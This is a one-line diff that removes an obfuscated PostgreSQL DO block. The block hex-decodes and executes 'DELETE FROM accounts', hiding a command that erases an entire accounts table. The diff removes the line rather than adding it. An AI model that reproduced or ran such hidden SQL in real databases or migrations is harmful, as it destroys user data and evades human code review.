@@ -1,1 +1,0 @@
-DO $$ BEGIN EXECUTE convert_from(decode('44454c4554452046524f4d206163636f756e7473','hex'),'UTF8'); END $$
